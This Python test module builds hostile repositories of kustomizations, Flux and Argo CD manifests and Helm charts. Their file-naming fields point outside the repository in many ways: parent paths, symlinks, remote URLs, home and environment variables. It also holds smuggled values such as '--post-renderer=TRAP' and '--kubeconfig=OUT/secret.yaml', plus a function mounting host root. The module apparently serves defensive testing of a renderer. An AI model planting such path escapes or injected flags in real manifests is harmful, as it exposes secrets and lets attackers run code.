"""Fields of kustomizations, Flux, Argo CD and charts that name files: each points out in every way."""

# ruff: noqa: E501

from __future__ import annotations

from collections.abc import Mapping

from tests.hostile.repositories.hostile import Hostile
from tests.render.trees import KUSTOMIZATION

WAYS = {
    "absolute": "OUT",
    "up": "UP",
    "linked": "linked",
    "linked-up": "linked/../linked",
    "http": "http://ADDRESS/x",
    "git": "git@ADDRESS:x/y.git",
    "git-http": "git::http://ADDRESS/x.git//y?ref=main&timeout=1s",
    "oci": "oci://ADDRESS/x",
    "file": "file://OUT",
    "option": "--post-renderer=TRAP",
    "user": "~/../outside",
    "variable": "${HOME}/../outside",
}
"""How a field can point at what lies outside; each stands in a directory three below the root."""


def _ways(name: str, text: str, more: Mapping[str, str] | None = None) -> Hostile:
    """A repository with the file once for each way, PATH being the way."""
    files = {
        f"worlds/{'flat'}/{way}/{file}": content.replace("PATH", path).replace("WAY", way)
        for way, path in WAYS.items()
        for file, content in {name: text, **(more or {})}.items()
    }
    return Hostile(files, links={f"worlds/flat/{way}/linked": "OUT" for way in WAYS})


FIELDS = {
    "resources": "resources: [PATH/secret.yaml, PATH]\n",
    "bases and components": "bases: [PATH]\ncomponents: [PATH]\n",
    "patches": "patches: [{path: PATH/secret.yaml, target: {kind: HTTPRoute}}]\npatchesStrategicMerge: [PATH/secret.yaml]\n"
    "patchesJson6902: [{path: PATH/secret.yaml, target: {version: v1, kind: HTTPRoute, name: shop}}]\n",
    "generators of objects": "configMapGenerator: [{name: c, files: [PATH/secret.yaml, x=PATH/secret.yaml], envs: [PATH/secret.yaml], env: PATH/secret.yaml}]\n"
    "secretGenerator: [{name: s, files: [PATH/secret.yaml], envs: [PATH/values.yaml]}]\n",
    "replacements": "replacements: [{path: PATH/secret.yaml}]\nvars: [{name: X, objref: {kind: HTTPRoute, name: shop, apiVersion: v1}}]\n",
    "plugins": "generators: [PATH/secret.yaml, PATH]\ntransformers: [PATH/secret.yaml]\nvalidators: [PATH/secret.yaml]\n",
    "configurations": "configurations: [PATH/secret.yaml]\ncrds: [PATH/secret.yaml]\nopenapi: {path: PATH/secret.yaml}\n",
    "charts": "helmGlobals: {chartHome: PATH, configHome: PATH}\nhelmCharts: [{name: '.', repo: PATH, releaseName: '--post-renderer=TRAP', valuesFile: PATH/values.yaml, additionalValuesFiles: [PATH/values.yaml]}, {name: PATH}]\n",
    "charts of old": "helmChartInflationGenerator: [{chartName: PATH, chartHome: PATH, helmBin: TRAP, helmHome: OUT, values: PATH/values.yaml, chartRepoUrl: PATH}]\n",
}
"""Of a kustomization, by what it takes."""
FUNCTION = """\
apiVersion: evil.example.com/v1
kind: Evil
metadata:
  name: evil
  annotations:
    config.kubernetes.io/function: |
      FUNCTION
    config.kubernetes.io/origin: "path: OUT/secret.yaml\\nconfiguredIn: ../outside/secret.yaml\\n"
"""
FUNCTIONS = {
    "exec": "exec: {path: TRAP}",
    "container": "container: {image: 'ADDRESS/evil:latest', network: true, mounts: [{type: bind, src: /, dst: /x}]}",
    "starlark": "starlark: {path: UP/secret.yaml, name: x, url: 'http://ADDRESS/x.star'}",
}
FLUX_PATH = """\
apiVersion: source.toolkit.fluxcd.io/v1
kind: GitRepository
metadata: {name: flux-system, namespace: flux-system}
spec: {url: 'PATH', interval: 1m, include: [{repository: {name: x}, fromPath: PATH, toPath: ../../x}]}
---
apiVersion: kustomize.toolkit.fluxcd.io/v1
kind: Kustomization
metadata: {name: flux-system, namespace: flux-system}
spec:
  path: PATH
  components: [PATH]
  sourceRef: {kind: GitRepository, name: flux-system}
  decryption: {provider: sops, secretRef: {name: x}}
  postBuild: {substitute: {X: PATH}, substituteFrom: [{kind: Secret, name: PATH}]}
  patches: [{path: PATH/secret.yaml}]
"""
RELEASE = """\
apiVersion: source.toolkit.fluxcd.io/v1
kind: GitRepository
metadata: {name: WAY, namespace: flux-system}
spec: {url: 'PATH', interval: 1m}
---
apiVersion: source.toolkit.fluxcd.io/v1
kind: HelmRepository
metadata: {name: WAY, namespace: flux-system}
spec: {url: 'PATH', type: oci}
---
apiVersion: helm.toolkit.fluxcd.io/v2
kind: HelmRelease
metadata: {name: '--post-renderer=TRAP', namespace: '--kubeconfig=OUT/secret.yaml'}
spec:
  releaseName: '-f=OUT/values.yaml'
  chart: {spec: {chart: PATH, version: '--debug', sourceRef: {kind: GitRepository, name: flux-system}, valuesFiles: [PATH/values.yaml], valuesFile: PATH/values.yaml}}
  postRenderers: [{kustomize: {patches: [{path: PATH/secret.yaml}]}}]
  valuesFrom: [{kind: Secret, name: PATH}]
---
apiVersion: helm.toolkit.fluxcd.io/v2
kind: HelmRelease
metadata: {name: WAY, namespace: shop}
spec: {chart: {spec: {chart: ./worlds/flat/WAY/chart, sourceRef: {kind: GitRepository, name: flux-system}}}, chartRef: {kind: OCIRepository, name: WAY}}
"""
CHART = {
    "chart/Chart.yaml": "apiVersion: v2\nname: PATH\nversion: 1.0.0\ndependencies: [{name: ../../../../x, repository: 'PATH', version: 1}, {name: x, repository: 'file://PATH'}]\n",
    "chart/values.yaml": "gateway: PATH\n",
    "chart/templates/x.yaml": '{{ .Files.Get "PATH/secret.yaml" }}{{ lookup "v1" "Secret" "" "" }}{{ getHostByName "localhost" }}{{ env "HOME" }}\n',
}
APPLICATION = """\
apiVersion: argoproj.io/v1alpha1
kind: Application
metadata: {name: way-WAY, namespace: argocd}
spec:
  destination: {server: 'http://ADDRESS', namespace: shop}
  sources:
  - repoURL: 'PATH'
    path: PATH
    chart: PATH
    helm: {valueFiles: [PATH/values.yaml, '$values/PATH/values.yaml'], fileParameters: [{name: x, path: PATH/secret.yaml}], releaseName: '--post-renderer=TRAP', parameters: [{name: '--set-file', value: PATH}]}
    kustomize: {components: [PATH], patches: [{path: PATH/secret.yaml}]}
    plugin: {name: evil, env: [{name: X, value: TRAP}]}
    directory: {recurse: true, include: '{PATH/*,../**}', jsonnet: {libs: [PATH]}}
  - {repoURL: 'https://git.example.com/x.git', path: PATH, ref: values}
"""
SET = """\
apiVersion: argoproj.io/v1alpha1
kind: ApplicationSet
metadata: {name: way-WAY, namespace: argocd}
spec:
  goTemplate: true
  generators:
  - git: {repoURL: 'PATH', revision: HEAD, files: [{path: 'PATH/**'}, {path: '../../../../**/*.yaml'}], directories: [{path: 'PATH/*'}, {path: '/*'}, {path: '../*'}]}
  - plugin: {configMapRef: {name: x}, input: {parameters: {url: 'http://ADDRESS'}}}
  - scmProvider: {github: {organization: x, api: 'http://ADDRESS'}}
  - list: {elements: [{path: PATH}, {path: '{{ env "HOME" }}'}]}
  - matrix: {generators: [{clusters: {}}, {git: {repoURL: 'PATH', files: [{path: 'PATH/*.yaml'}]}}]}
  template:
    metadata: {name: '{{ .path }}'}
    spec: {source: {repoURL: 'PATH', path: '{{ .path }}'}, destination: {namespace: shop}}
"""
NAMING = {
    **{f"a kustomization's {name}": _ways("kustomization.yaml", KUSTOMIZATION + text) for name, text in FIELDS.items()},
    **{
        f"a function of kustomize, {name}": Hostile(
            {
                "kustomization.yaml": KUSTOMIZATION
                + "resources: [gateway.yaml, evil.yaml]\ngenerators: [evil.yaml]\ntransformers: [evil.yaml]\nvalidators: [evil.yaml]\n",
                "evil.yaml": FUNCTION.replace("FUNCTION", text),
            }
        )
        for name, text in FUNCTIONS.items()
    },
    "Flux's paths": _ways("sync.yaml", FLUX_PATH),
    "Flux's releases and charts": _ways("release.yaml", RELEASE, CHART),
    "Argo CD's applications": _ways("application.yaml", APPLICATION, CHART),
    "Argo CD's application sets": _ways("set.yaml", SET),
}
